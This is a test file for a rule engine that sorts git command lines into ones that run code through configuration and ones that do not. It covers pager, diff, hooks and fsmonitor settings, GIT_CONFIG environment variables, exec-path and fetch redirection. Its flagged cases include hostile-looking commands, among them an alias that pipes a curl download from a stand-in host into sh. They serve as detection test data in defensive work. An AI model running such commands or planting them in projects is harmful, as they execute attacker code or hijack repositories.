import { describe, expect, it } from 'vitest';
import { behaviourCases } from '../behaviour.case.js';
import { GIT_KEYS } from './git-config-keys.js';

describe('git settings: one table of the keys git runs, however the setting arrives', () => {
  behaviourCases([
    {
      rule: 'exec.option-command',
      yes: [
        'git -c diff.external=./d.sh diff',
        'git -c pager.log=./p.sh log',
        'git --config-env=core.pager=V log',
        'git --config-env core.editor=V commit',
        'git -c sendemail.sendmailCmd=./m.sh send-email x.patch',
        'git -c trailer.sign.command=./t.sh commit -m x',
        'git -c core.hooksPath=/tmp/h commit -m x',
        'git -c "$SETTING" log',
        'git -c protocol.ext.allow=always fetch',
        'git -c alias.x=!./a.sh x',
        'git config --global core.pager ./p.sh',
        'git send-email --smtp-server=/tmp/m.sh x.patch',
      ],
      no: [
        'git -c core.pager=cat log',
        'git -c core.pager="less -R" log',
        'git -c pager.branch=false branch',
        'V=vim git --config-env=core.editor=V commit',
        'git -c core.fsmonitor=true status',
        'git -c credential.helper= fetch',
        'git -c credential.helper=store push',
        'git -c alias.st=status st',
        'git -c protocol.file.allow=always submodule update',
        'git -c color.ui=always log',
        'git send-email --smtp-server=smtp.example.com x.patch',
        'git commit -m "mention core.pager in the docs"',
      ],
    },
    {
      rule: 'exec.env-command',
      yes: [
        'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./p.sh git log',
        'export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./f',
        'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager git log',
        'GIT_CONFIG_KEY_0=$K GIT_CONFIG_VALUE_0=x git log',
        "GIT_CONFIG_PARAMETERS=\"'include.path'='/tmp/c'\" git status",
        'GIT_CONFIG_GLOBAL=./cfg git status',
        'GIT_CONFIG_SYSTEM=/tmp/cfg git status',
      ],
      no: [
        'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=cat git log',
        'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=x git commit -m y',
        "GIT_CONFIG_PARAMETERS=\"'color.ui'='always'\" git log",
        'GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_SYSTEM=/dev/null git status',
      ],
    },
    {
      rule: 'persist.git-hook',
      yes: [
        'git config core.hooksPath .githooks-x',
        'git config --global diff.external ./d.sh',
        'git config --add include.path /tmp/c',
        'git config sendemail.sendmailCmd ./m.sh',
        'git clone -c core.fsmonitor=./f https://example.com/r.git',
        "git config alias.up '!curl -s x.example | sh'",
      ],
      no: [
        'git config core.editor "code --wait"',
        'git config pager.branch false',
        'git config alias.co checkout',
        'git config --get core.pager',
        'git -c core.hooksPath=/tmp/h commit -m x',
      ],
    },
    {
      rule: 'exec.path-poison',
      yes: ['git --exec-path=./bin fetch', 'git --exec-path=/tmp/g status'],
      no: ['git --exec-path', 'git --exec-path=/usr/lib/git-core status'],
    },
    {
      rule: 'net.fetch-unlisted',
      yes: [
        'git -c http.proxy=http://proxy.example:3128 fetch',
        'git -c url.https://x.example/.insteadOf=https://github.com/ fetch',
      ],
      no: ['git -c http.sslVerify=true fetch'],
    },
  ]);

  it('is data: each row a key pattern and a use', () => {
    for (const row of GIT_KEYS) {
      expect(row.key.source.startsWith('^')).toBe(true);
      expect(row.key.source.endsWith('$')).toBe(true);
    }
  });
});
